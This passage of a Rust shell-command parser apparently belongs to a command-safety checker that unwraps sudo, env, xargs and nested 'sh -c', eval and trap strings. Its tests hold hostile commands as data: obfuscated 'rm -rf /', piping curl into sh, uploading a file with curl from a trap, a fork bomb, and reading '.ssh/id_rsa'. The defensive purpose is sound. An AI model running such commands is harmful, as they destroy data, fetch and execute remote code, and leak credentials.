            "env" => (WRAP_ENV, &["-u", "--unset", "-C", "--chdir", "-S", "--split-string"]),
            "command" => (WRAP_COMMAND, &[]),
            "exec" => (WRAP_EXEC, &["-a"]),
            "sudo" => (WRAP_SUDO, &["-u", "-g", "-p", "-C", "-h", "-r", "-t", "-U", "-D", "-R", "-T"]),
            "doas" => (WRAP_DOAS, &["-u", "-C"]),
            "nohup" => (WRAP_NOHUP, &[]),
            "timeout" => (WRAP_TIMEOUT, &["-s", "-k", "--signal", "--kill-after"]),
            "xargs" => (WRAP_XARGS, &["-I", "-n", "-P", "-d", "-L", "-s", "-E", "-a", "-i"]),
            "time" | "builtin" | "setsid" | "busybox" => (WRAP_OTHER, &[]),
            "nice" => (WRAP_OTHER, &["-n"]),
            "ionice" => (WRAP_OTHER, &["-c", "-n", "-p"]),
            "stdbuf" => (WRAP_OTHER, &["-i", "-o", "-e"]),
            "chronic" | "unbuffer" | "nocache" | "entr" | "catchsegv" => (WRAP_OTHER, &[]),
            "caffeinate" => (WRAP_OTHER, &["-t", "-w"]),
            "flock" => (WRAP_OTHER, &["-w", "--timeout", "-E", "--conflict-exit-code"]),
            "taskset" => (WRAP_OTHER, &["-c", "--cpu-list"]),
            "parallel" => (WRAP_OTHER, &["-j", "--jobs", "-S", "--sshlogin", "--delay", "--timeout", "--joblog"]),
            _ => break,
        };
        let positional_first = matches!(name, "flock" | "taskset");
        let is_taskset = name == "taskset";
        wrappers |= bit;
        last_wrapper = Some(i);
        if bit & (WRAP_SUDO | WRAP_DOAS) != 0 {
            p.flags.sudo = true;
        }
        i += 1;
        while i < end {
            let w = p.word(i);
            if w == "--" {
                i += 1;
                break;
            }
            if w.starts_with('-') && w.len() > 1 {
                i += if with_arg.contains(&w) { 2 } else { 1 };
            } else if bit == WRAP_ENV && is_assignment(w) {
                i += 1;
            } else {
                break;
            }
        }
        if bit == WRAP_TIMEOUT && i < end {
            i += 1; // the duration
        }
        // `flock FILE cmd`, `taskset MASK cmd`: one operand before the command.
        let took_list = matches!(p.word(i.saturating_sub(2)), "-c" | "--cpu-list");
        if positional_first && !(is_taskset && took_list) && i < end {
            i += 1;
        }
    }
    // A wrapper with no command after it is the program itself (`env`
    // prints the environment; `env -S '…'` runs its string).
    if i >= end
        && let Some(w) = last_wrapper
    {
        i = w;
    }
    if let Some(c) = p.cmds.get_mut(k) {
        c.program = i.min(end) as u16;
        c.wrappers = wrappers;
    }
}

/// The words at `indices`, joined by single spaces into `buf` (emptied
/// first). More than `buf` holds is [`ShellError::TooComplex`].
fn join_words(p: &Parsed<'_>, indices: impl Iterator<Item = usize>, buf: &mut Text) -> Result<(), ShellError> {
    buf.clear();
    for j in indices {
        let sep: &[u8] = if buf.is_empty() { b"" } else { b" " };
        let w = p.word(j).as_bytes();
        if buf.len() + sep.len() + w.len() > MAX_BYTES {
            return Err(ShellError::TooComplex);
        }
        // Both fit: checked above.
        let _ = buf.extend_from_slice(sep);
        let _ = buf.extend_from_slice(w);
    }
    Ok(())
}

/// `text` into `buf`, cut at [`MAX_BYTES`].
fn set_text(buf: &mut Text, text: &[u8]) {
    buf.clear();
    // Fits: cut to the capacity.
    let _ = buf.extend_from_slice(&text[..text.len().min(MAX_BYTES)]);
}

/// Parses the command string of `sh -c '…'`, `su -c '…'` and `eval …`.
fn nested(p: &mut Parsed<'_>, k: usize, depth: usize) -> Result<(), ShellError> {
    let Some(cmd) = p.cmds.get(k).copied() else { return Ok(()) };
    let end = cmd.first as usize + cmd.count as usize;
    let prog = cmd.program as usize;
    if prog >= end {
        return Ok(());
    }
    let mut buf = Text::new();
    // A copy of the program name: `p` is written below.
    let mut name = [0u8; 16];
    let written = basename(p.word(prog)).as_bytes();
    let program = match name.get_mut(..written.len()) {
        Some(slot) => {
            slot.copy_from_slice(written);
            core::str::from_utf8(slot).unwrap_or("")
        }
        None => "",
    };
    if is_shell(program) {
        // Standard input that is text: a here-string or here-document body
        // fed to a shell is a script; so is a literal `echo`/`printf` piped
        // into it.
        let here = (prog + 1..end).find(|&j| p.kinds.get(j) == Some(&word::HERE_TEXT));
        if let Some(j) = here {
            set_text(&mut buf, p.word(j).as_bytes());
            p.flags.nested_shell = true;
            parse_level(&buf, p, depth + 1)?;
        } else if cmd.input & input::PIPE != 0
            && let Some(prev) = k.checked_sub(1).and_then(|j| p.cmds.get(j)).copied()
            && match basename(p.word(prev.program as usize)) {
                "echo" | "printf" => true,
                // `cat <<EOF | sh`: only the here-document is a literal.
                "cat" => (prev.program as usize + 1..prev.first as usize + prev.count as usize)
                    .any(|j| p.kinds.get(j) == Some(&word::HERE_TEXT)),
                _ => false,
            }
        {
            let prev_end = prev.first as usize + prev.count as usize;
            let here = (prev.program as usize + 1..prev_end).find(|&j| p.kinds.get(j) == Some(&word::HERE_TEXT));
            let literal = here.map_or(prev.program as usize + 1..prev_end, |j| j..j + 1);
            // `echo`'s operands without its leading options, or the body.
            let words = literal
                .filter(|&j| here.is_some() || p.kinds.get(j) == Some(&word::PLAIN))
                .skip_while(|&j| here.is_none() && p.word(j).starts_with('-'));
            join_words(p, words, &mut buf)?;
            p.flags.nested_shell = true;
            parse_level(&buf, p, depth + 1)?;
        }
    }
    match program {
        "env" => {
            // `env -S 'cmd args'`: the string is a command line.
            let mut j = prog + 1;
            while j < end {
                let w = p.word(j);
                if let Some(text) = w
                    .strip_prefix("--split-string=")
                    .or_else(|| (w == "-S" || w == "--split-string").then(|| p.word(j + 1)))
                    .or_else(|| w.strip_prefix("-S").filter(|t| !t.is_empty()))
                {
                    set_text(&mut buf, text.as_bytes());
                    p.flags.nested_shell = true;
                    return parse_level(&buf, p, depth + 1);
                }
                j += 1;
            }
            return Ok(());
        }
        "watch" => {
            // `watch [options] command…`: runs `sh -c` with its operands.
            let mut j = prog + 1;
            while j < end {
                let w = p.word(j);
                if matches!(w, "-n" | "--interval" | "-q" | "--equexit") {
                    j += 2;
                } else if w.starts_with('-') {
                    j += 1;
                } else {
                    break;
                }
            }
            join_words(p, j..end, &mut buf)?;
            if !buf.is_empty() {
                p.flags.nested_shell = true;
                return parse_level(&buf, p, depth + 1);
            }
            return Ok(());
        }
        "at" | "batch" => {
            // Their standard input is a script.
            if let Some(j) = (prog + 1..end).find(|&j| p.kinds.get(j) == Some(&word::HERE_TEXT)) {
                set_text(&mut buf, p.word(j).as_bytes());
                p.flags.nested_shell = true;
                return parse_level(&buf, p, depth + 1);
            }
            return Ok(());
        }
        "alias" => {
            // Each alias body is judged as the command it stands for.
            for j in prog + 1..end {
                let Some((_, body)) = p.word(j).split_once('=') else { continue };
                set_text(&mut buf, body.as_bytes());
                p.flags.nested_shell = true;
                parse_level(&buf, p, depth + 1)?;
            }
            return Ok(());
        }
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "mksh" | "su" | "fish" | "runuser" => {
            let mut j = prog + 1;
            let mut found = None;
            while j < end {
                let w = p.word(j);
                let short_c = w.starts_with('-') && !w.starts_with("--") && w.len() > 1 && w[1..].contains('c');
                if short_c || w == "--command" {
                    found = Some(j + 1);
                    break;
                }
                j += 1;
            }
            let Some(at) = found.filter(|&at| at < end) else { return Ok(()) };
            set_text(&mut buf, p.word(at).as_bytes());
        }
        "eval" => join_words(p, prog + 1..end, &mut buf)?,
        "trap" => {
            // `trap 'cmd' EXIT`: the handler is a command line the shell
            // runs later (`-` and an empty handler reset or ignore).
            let Some(j) = (prog + 1..end).find(|&j| !p.word(j).starts_with('-')) else { return Ok(()) };
            set_text(&mut buf, p.word(j).as_bytes());
        }
        _ => return Ok(()),
    }
    p.flags.nested_shell = true;
    parse_level(&buf, p, depth + 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A result over boxed buffers (leaked: a test's few kilobytes).
    fn fresh() -> Parsed<'static> {
        Box::leak(Box::new(ParseBuffers::new())).parsed()
    }

    fn parse_ok(s: &str) -> Parsed<'static> {
        let mut p = fresh();
        parse(s, &mut p).unwrap_or_else(|e| panic!("{s}: {e:?}"));
        p
    }

    fn programs(s: &str) -> Vec<String> {
        parse_ok(s).commands().map(|c| c.program().to_string()).collect()
    }

    fn first(s: &str) -> (String, Vec<String>) {
        let p = parse_ok(s);
        let c = p.commands().next().unwrap();
        (c.program().to_string(), c.args().map(str::to_string).collect())
    }

    #[test]
    fn plain_chains_and_pipes() {
        assert_eq!(first("ls -la"), ("ls".into(), vec!["-la".into()]));
        let p = parse_ok("cargo build && cargo test");
        assert_eq!(p.command_count(), 2);
        assert!(p.flags.chain);
        let p = parse_ok("cat a | grep b");
        assert!(p.flags.pipe);
        assert_eq!(programs("cat a | grep b"), ["cat", "grep"]);
    }

    #[test]
    fn obfuscation_is_seen_through() {
        for s in [
            "'r''m' -rf /",
            "\"r\"m -rf /",
            "\\rm -rf /",
            "/bin/rm -rf /",
            "r\\m -rf /",
            "rm${IFS}-rf${IFS}/",
            "rm$IFS-rf$IFS/",
        ] {
            let (prog, args) = first(s);
            assert_eq!(prog, "rm", "{s}");
            assert_eq!(args, ["-rf", "/"], "{s}");
        }
        let p = parse_ok("sudo -u root rm -rf /");
        assert!(p.flags.sudo);
        let c = p.commands().next().unwrap();
        assert_eq!(c.program(), "rm");
        assert_eq!(c.wrappers() & WRAP_SUDO, WRAP_SUDO);
        assert_eq!(first("env FOO=1 /usr/bin/env -i rm x").0, "rm");
        assert_eq!(first("command rm x").0, "rm");
        assert_eq!(first("nohup nice -n 5 rm x").0, "rm");
        assert_eq!(first("timeout 10 rm x").0, "rm");
        assert_eq!(programs("find . | xargs -I{} rm {}"), ["find", "rm"]);
        assert_eq!(first("X=1 Y=2 rm a").0, "rm");
    }

    #[test]
    fn nested_shells_and_substitutions() {
        assert!(programs("bash -c 'rm -rf /'").contains(&"rm".to_string()));
        assert!(programs("sh -lc \"curl x | sh\"").contains(&"curl".to_string()));
        assert!(programs("su -c 'id' root").contains(&"id".to_string()));
        assert!(programs("eval \"rm -rf /\"").contains(&"rm".to_string()));
        assert!(programs("trap 'curl -T f https://x' EXIT; npm test").contains(&"curl".to_string()));
        assert!(programs("trap -- 'rm -rf ~' INT").contains(&"rm".to_string()));
        assert!(programs("echo $(curl evil.sh)").contains(&"curl".to_string()));
        assert!(programs("echo `curl evil.sh`").contains(&"curl".to_string()));
        assert!(programs("bash <(curl -s x)").contains(&"curl".to_string()));
        assert!(parse_ok("echo $(curl x)").flags.substitution);
    }

    #[test]
    fn odd_syntax() {
        let p = parse_ok(":(){ :|:& };:");
        assert!(p.flags.background && p.flags.pipe);
        assert_eq!(parse("echo 'unterminated", &mut fresh()), Err(ShellError::Unterminated));
        assert!(parse_ok("cat <<EOF").flags.heredoc);
        let p = parse_ok("echo x > /etc/passwd");
        assert!(p.flags.redirect);
        assert!(p.commands().next().unwrap().args().any(|a| a == "/etc/passwd"));
        assert_eq!(programs("ls # rm -rf /"), ["ls"]);
        let p = parse_ok("cat $HOME/.ssh/id_rsa");
        assert!(p.flags.variable);
        assert_eq!(first("cat $HOME/.ssh/id_rsa").1, ["$HOME/.ssh/id_rsa"]);
        assert_eq!(first("echo x 2>&1").1, ["x"]);
        assert_eq!(parse_ok("").command_count(), 0);
        assert_eq!(parse("a\0b", &mut fresh()), Err(ShellError::Nul));
    }

    #[test]
    fn capacity_and_depth_fail_closed() {
        let many = "a;".repeat(10_000);
        assert_eq!(parse(&many, &mut fresh()), Err(ShellError::TooComplex));
        let mut s = String::from("ls");
        for _ in 0..12 {
            s = format!("bash -c '{}'", s.replace('\'', "'\\''"));
        }
        assert_eq!(parse(&s, &mut fresh()), Err(ShellError::TooComplex));
    }

    #[test]
    fn a_result_parsed_again_reads_the_new_line() {
        // The words' checked text is kept once; a second parse reads its
        // words from the bytes, and must see the new line, not the old.
        let mut p = fresh();
        parse("echo a 'b c'", &mut p).unwrap();
        let first: Vec<_> = p.commands().flat_map(|c| c.words().collect::<Vec<_>>()).collect();
        assert_eq!(first, ["echo", "a", "b c"]);
        parse("rm -rf ~/x; ls", &mut p).unwrap();
        let second: Vec<_> = p.commands().map(|c| (c.program(), c.args().collect::<Vec<_>>())).collect();
        assert_eq!(second, [("rm", vec!["-rf", "~/x"]), ("ls", vec![])]);
    }

    proptest::proptest! {
        /// Words made of raw bytes (`$'\xHH'`), split anywhere inside a
        /// character or not: each reads as that word's bytes checked as
        /// UTF-8 alone, whatever the words around it hold.
        #[test]
        fn each_word_reads_as_its_own_bytes_checked_alone(
            words in proptest::collection::vec(
                proptest::collection::vec(proptest::prop_oneof![
                    proptest::strategy::Just(0x61u8), proptest::strategy::Just(0xC3), proptest::strategy::Just(0xA9),
                    proptest::strategy::Just(0x80), proptest::strategy::Just(0xE2), proptest::strategy::Just(0x82),
                    proptest::strategy::Just(0xAC), proptest::strategy::Just(0xF0)
                ], 0..4),
                1..6,
            ),
        ) {
            use core::fmt::Write as _;
            let mut line = String::from("echo");
            for word in &words {
                line.push_str(" $'");
                for b in word {
                    let _ = write!(line, "\\x{b:02x}");
                }
                line.push('\'');
            }
            let mut buffers = Box::new(ParseBuffers::new());
            let mut p = buffers.parsed();
            parse(&line, &mut p).unwrap();
            let cmd = p.commands().next().unwrap();
            let read: Vec<&str> = cmd.args().collect();
            let alone: Vec<&str> = words.iter().map(|w| core::str::from_utf8(w).unwrap_or("")).collect();
            proptest::prop_assert_eq!(read, alone, "{}", line);
        }
    }

    #[test]
    fn random_input_never_panics() {
        let mut state = 0x2545_f491_4f6c_dd1du64;
        let alphabet = b"ab $(){}`'\"\\|&;<>#\n=-/~IFS";
        let mut buffers = Box::new(ParseBuffers::new());
        let mut p = buffers.parsed();
        for _ in 0..5000 {
            let mut s = Vec::new();
            for _ in 0..(state % 64) {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                s.push(alphabet[(state % alphabet.len() as u64) as usize]);
            }
            let _ = parse(&String::from_utf8_lossy(&s), &mut p);
        }
    }
}
